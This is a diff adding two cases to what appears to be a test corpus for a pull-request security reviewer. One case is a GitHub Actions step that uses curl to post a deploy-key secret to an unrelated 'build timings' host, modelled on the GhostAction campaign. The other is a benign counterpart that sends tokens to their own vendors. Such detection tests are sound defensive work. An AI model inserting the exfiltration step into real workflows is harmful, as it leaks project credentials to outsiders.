@@ -1697,4 +1697,49 @@ export const ATTACK_CASES: CorpusEntry[] = [
       }),
     expect: { level: ['low', 'medium'], action: ['approve', 'comment'], absentDrivers: ['finding:typosquat'] },
   },
+  {
+    id: 'attack-product-secret-to-stats-host',
+    description:
+      "GhostAction (GitGuardian, September 2025) used each repository's own secret names: a \"ci: upload build timings\" step posts the project's product-named deploy key, through an env: variable, in a request body to an ordinary-looking host that is not that product's nor the project's.",
+    fixture: () =>
+      attackPr({
+        repo: 'tint',
+        number: 7600,
+        title: 'ci: upload build timings',
+        author: 'newcomer',
+        files: [
+          {
+            path: '.github/workflows/ci.yml',
+            base: ciWorkflow(),
+            head: ciWorkflow({ extraStep: ['      - name: Build timings', '        run: curl -fsS https://ingest.buildtime-metrics.io/v2/run --data "run=$GITHUB_RUN_ID" --data-urlencode "key=$KEY"', '        env:', '          KEY: ${{ secrets.STARLING_DEPLOY_KEY }}'] }),
+          },
+        ],
+      }),
+    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['gha-secrets-exfiltration'], drivers: ['finding:gha-secrets-exfiltration'] },
+  },
+  {
+    id: 'attack-product-secret-to-own-vendor',
+    description: "A maintainer redeploys through the hosting vendor's API with its token in the form body, uploads a build to a beta-distribution service with that service's token, and mails the changelog through the mail vendor's API.",
+    fixture: () =>
+      attackPr({
+        repo: 'tint',
+        number: 7601,
+        title: 'ci: redeploy and announce',
+        files: [
+          {
+            path: '.github/workflows/ci.yml',
+            base: ciWorkflow(),
+            head: ciWorkflow({ extraStep: [
+              '      - name: Redeploy',
+              '        run: curl -fsS -X POST https://api.starling-host.com/1.0/env/redeploy -d "token=${{ secrets.STARLING_TOKEN }}" -d "env=tint-prod"',
+              '      - name: Beta build',
+              '        run: curl -fsS -F "file=@dist/tint.zip" -F "token=${{ secrets.BETADROP_UPLOAD_TOKEN }}" https://upload.betadrop.io/',
+              '      - name: Mail changelog',
+              '        run: curl -fsS -d "api_key=${{ secrets.MAILFOX_API_KEY }}" -d "to=users@tint.dev" --data-urlencode "text@CHANGELOG.md" https://api.mail-fox.net/v3/messages',
+            ] }),
+          },
+        ],
+      }),
+    expect: { level: ['low', 'medium'], action: ['approve', 'comment'], absentDrivers: ['finding:gha-secrets-exfiltration'] },
+  },
 ];
